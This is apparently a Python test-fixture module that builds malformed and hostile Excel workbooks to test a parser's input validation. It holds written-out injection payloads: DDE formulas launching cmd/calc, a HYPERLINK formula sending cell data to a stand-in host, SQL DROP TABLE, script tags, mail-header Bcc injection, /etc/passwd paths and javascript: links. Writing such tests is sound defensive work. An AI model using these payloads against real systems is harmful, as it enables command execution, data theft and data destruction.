"""What a cell, a sheet or a title can say."""

from __future__ import annotations

import random
import re
from collections.abc import Callable

from good_workbook import PARTICIPANTS, PUBLISHED, Good
from hostile_file import HostileFile, of

_WORKBOOK = "xl/workbook.xml"


def _titled(title: str) -> Callable[[Good], bytes]:
    return lambda good: good.titled(title)


def _published(value: str) -> Callable[[Good], bytes]:
    return lambda good: good.with_posts(PUBLISHED, value.encode())


def _participants(value: str) -> Callable[[Good], bytes]:
    return lambda good: good.replaced(good.activities, PARTICIPANTS, value.encode())


def _renamed_sheet(old: str, new: str) -> Callable[[Good], bytes]:
    return lambda good: good.replaced(_WORKBOOK, f'name="{old}"'.encode(), f'name="{new}"'.encode())


def _state(state: str) -> Callable[[Good], bytes]:
    def make(good: Good) -> bytes:
        workbook, count = re.subn(
            rb'(<sheet [^>]*name="Tin b[^>]*?)state="\w+"', rb'\1state="' + state.encode() + b'"', good.parts[_WORKBOOK]
        )
        assert count == 1
        return good.with_parts({_WORKBOOK: workbook})

    return make


def _instead(old: str, new: str) -> Callable[[Good], bytes]:
    return lambda good: good.with_posts(old.encode(), new.encode())


def _text(value: str) -> bytes:
    return f't="inlineStr"><is><t>{value}</t></is>'.encode()


def _published_text(value: str) -> Callable[[Good], bytes]:
    return lambda good: good.with_posts(b't="n">' + PUBLISHED, _text(value))


def _participants_text(value: str) -> Callable[[Good], bytes]:
    return lambda good: good.replaced(good.activities, b't="n">' + PARTICIPANTS, _text(value))


def _error_cell(good: Good) -> bytes:
    return good.replaced(good.activities, b't="n">' + PARTICIPANTS, b't="e"><v>#DIV/0!</v>')


FILES: list[HostileFile] = [
    *of(
        "",
        formula_that_starts_a_program=_titled("=cmd|' /C calc'!A0"),
        formula_of_plus=_titled("+1+cmd|' /C calc'!A0"),
        formula_of_minus=_titled("-2+3+cmd|' /C calc'!A0"),
        formula_of_at=_titled("@SUM(1+1)*cmd|' /C calc'!A0"),
        formula_after_a_tab=_titled("&#9;=1+1"),
        formula_after_a_line_break=_titled("&#10;=1+1"),
        link_formula=_titled('=HYPERLINK("https://x.example/?"&amp;A1,"Bấm vào đây")'),
        web_formula=_titled('=WEBSERVICE("https://x.example/")'),
        template_expression=_titled("{{ 7 * 7 }} {% for a in b %} {# c #}"),
        markup=_titled("&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;"),
        statement_of_a_database=_titled("'); DROP TABLE submissions; --"),
        format_of_python=_titled("%s %(a)s {0.__class__} {office.signer}"),
        line_breaks_of_a_mail_header=_titled("a_x000D_&#10;Bcc: all@x.example"),
        right_to_left=_titled("Báo cáo \u202egpj.exe"),
        isolates_and_marks=_titled("\u2066a\u2069\u200fb\u061cc"),
        zero_width=_titled("T\u200bi\u200cn\u200d\ufeff b\u00adài"),
        escaped_nul=_titled("Tin_x0000_bài"),
        escaped_controls=_titled("Tin_x0007__x001B_[31mbài"),
        private_and_unassigned=_titled("Tin \ue000\U000e0041 bài \ufdd0"),
        decomposed_vietnamese=_titled("Phươ\u031bng tâ\u0323p huâ\u0301n"),
        many_accents=_titled("a" + "\u0301" * 200),
        emoji=_titled("Tin 👩‍👩‍👧‍👦🇻🇳"),
        shared_formula=lambda good: good.with_posts(
            PUBLISHED, b'<f t="shared" ref="E5:E1048576" si="0">46083</f>' + PUBLISHED
        ),
        array_formula=lambda good: good.with_posts(
            PUBLISHED, b'<f t="array" ref="A1:XFD1048576">46083</f>' + PUBLISHED
        ),
        formula_that_starts_a_program_with_a_value=lambda good: good.with_posts(
            PUBLISHED, b"<f>cmd|'/c calc'!A0</f>" + PUBLISHED
        ),
        formula_of_64_kb=lambda good: good.with_posts(PUBLISHED, b"<f>" + b"1+" * 32_000 + b"1</f>" + PUBLISHED),
        hidden_sheet=_state("hidden"),
        very_hidden_sheet=_state("veryHidden"),
        sheet_named_like_a_formula=_renamed_sheet("Tin bài", "=cmd|' /C calc'!A0"),
        sheet_named_like_a_path=_renamed_sheet("Tin bài", "../../etc/passwd"),
        sheet_with_line_breaks_in_its_name=_renamed_sheet("Tin bài", "Tin&#13;&#10;Bcc: all@x.example"),
        sheet_with_a_reversed_name=_renamed_sheet("Tin bài", "\u202eiàb niT"),
    ),
    *of(
        "text_too_long",
        text_of_40_000_characters=_titled("Báo cáo " * 5_000),
        link_of_300_kb=_instead("https://phucloi.example", "https://x.example/" * 20_000),
        text_of_5_mb=lambda good: good.titled(random.Random(5).randbytes(2_500_000).hex()),
    ),
    *of("number_unreadable", infinity=_participants("<v>1e999</v>"), not_a_number=_participants("<v>NaN</v>")),
    *of(
        "cell_error",
        error_for_a_number=_error_cell,
    ),
    *of(
        "date_unreadable",
        date_below_zero=_published("<v>-1</v>"),
        date_of_the_year_10_000=_published("<v>2958466</v>"),
        date_of_1e300=_published("<v>1e300</v>"),
        date_of_300_kb=_published_text("1/" * 150_000),
    ),
    *of("date_outside_window", date_not_a_number=_published("<v>NaN</v>")),
    *of("choice_unknown", choice_of_300_kb=_instead("Tin</t>", "Tin tuc " * 40_000 + "</t>")),
    *of(
        "link_not_web",
        link_that_runs=_instead("https://phucloi.example/tin", "javascript:alert(1)//"),
        link_to_a_file=_instead("https://phucloi.example/tin", "file:///etc/passwd"),
        link_to_a_share=_instead("https://phucloi.example/tin", "\\\\server\\share"),
    ),
    *of("number_unreadable", number_of_300_kb=_participants_text("9" * 300_000)),
    *of("file_damaged", sheet_with_an_endless_name=_renamed_sheet("Tin bài", "Tin bài " * 5_000)),
]
